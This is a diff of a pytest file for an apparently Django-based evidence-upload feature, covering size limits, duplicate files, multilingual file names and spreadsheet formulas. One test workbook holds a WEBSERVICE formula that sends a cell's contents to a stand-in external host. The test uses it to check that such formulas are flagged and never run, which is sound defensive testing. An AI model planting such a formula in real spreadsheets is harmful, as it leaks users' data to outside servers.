@@ -5,7 +5,6 @@ import unicodedata
 
 import pytest
 from calls.stage import PDF, TRIAL
-from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from django.utils.translation import override
 from openpyxl import Workbook
@@ -23,10 +22,14 @@ def draft(stage, client):
     return stage.draft()
 
 
-def sent(client, case, name, content, language="en"):
+def attach(stage, case, name, content, language="en"):
     with override(language):
-        address = reverse("assessment:item", args=[case.reference, "documents"])
-        return client.post(address, {"for": "letter", "file": SimpleUploadedFile(name, content)}, follow=True)
+        return attach_evidence(**stage.step(stage.lead), case=case, item="letter", name=name, content=content)
+
+
+def shown(client, case, language="en"):
+    with override(language):
+        return client.get(reverse("assessment:item", args=[case.reference, "documents"])).content.decode()
 
 
 def workbook(*cells):
@@ -46,7 +49,8 @@ def workbook(*cells):
 )
 def test_a_formula_in_a_workbook_is_told_beside_it_and_never_run(stage, draft, client, language, sentence, outside):
     content = workbook("=1+1", '=WEBSERVICE("http://x.example/"&A1)', "2")
-    page = sent(client, draft, "cost.xlsx", content, language).content.decode()
+    attach(stage, draft, "cost.xlsx", content)
+    page = shown(client, draft, language)
     assert sentence in page and outside in page
     piece = Evidence.objects.get()
     with override(language):
@@ -54,34 +58,36 @@ def test_a_formula_in_a_workbook_is_told_beside_it_and_never_run(stage, draft, c
     assert kept == content, "it is kept as it came"
 
 
-def test_a_workbook_without_formulas_has_no_such_sentence(draft, client):
-    assert "formula" not in sent(client, draft, "cost.xlsx", workbook("one", 2)).content.decode()
+def test_a_workbook_without_formulas_has_no_such_sentence(stage, draft, client):
+    attach(stage, draft, "cost.xlsx", workbook("one", 2))
+    assert "formula" not in shown(client, draft)
 
 
-@pytest.mark.parametrize(("language", "sentence"), [("en", "larger than 1 MB"), ("ko", "1 MB")])
+@pytest.mark.parametrize(("language", "sentence"), [("en", "larger than 1 MB"), ("ko", "1MB를 넘습니다")])
 def test_a_file_that_is_too_large_is_refused_in_a_sentence_and_what_was_there_stays(
-    stage, draft, client, settings, language, sentence
+    stage, draft, settings, language, sentence
 ):
-    attach_evidence(**stage.step(stage.lead), case=draft, item="letter", name="letter.pdf", content=PDF)
+    attach(stage, draft, "letter.pdf", PDF)
     settings.UPLOAD_LIMIT_MEGABYTES = 1
-    answer = sent(client, draft, "long.pdf", PDF + b"%" * 1_100_000, language)
-    assert answer.status_code == 422 and sentence in answer.content.decode()
+    with override(language), pytest.raises(Refused, match=sentence):
+        attach(stage, draft, "long.pdf", PDF + b"%" * 1_100_000, language)
     assert [one.name for one in Evidence.objects.filter(withdrawn_at=None)] == ["letter.pdf"]
 
 
 @pytest.mark.parametrize(("language", "sentence"), [("en", "attached here already"), ("ko", "이미 첨부")])
-def test_the_same_file_twice_is_kept_once_and_said_so(draft, client, language, sentence):
-    assert sent(client, draft, "letter.pdf", PDF, language).status_code == 200
-    answer = sent(client, draft, "another name.pdf", PDF, language)
-    assert answer.status_code == 422 and sentence in answer.content.decode()
+def test_the_same_file_twice_is_kept_once_and_said_so(stage, draft, language, sentence):
+    attach(stage, draft, "letter.pdf", PDF)
+    with override(language), pytest.raises(Refused, match=sentence):
+        attach(stage, draft, "another name.pdf", PDF, language)
     assert Evidence.objects.count() == 1
 
 
 @pytest.mark.parametrize(
     "name", ["견적서 (최종).pdf", unicodedata.normalize("NFD", "견적서.pdf"), "Đề xuất cảng.pdf", "عرض.pdf", "提案.pdf"]
 )
-def test_a_name_in_any_script_is_kept_shown_and_handed_out_again(draft, client, name):
-    page = sent(client, draft, name, PDF).content.decode()
+def test_a_name_in_any_script_is_kept_shown_and_handed_out_again(stage, draft, client, name):
+    attach(stage, draft, name, PDF)
+    page = shown(client, draft)
     piece = Evidence.objects.get()
     assert piece.name == name and name in page
     with override("en"):
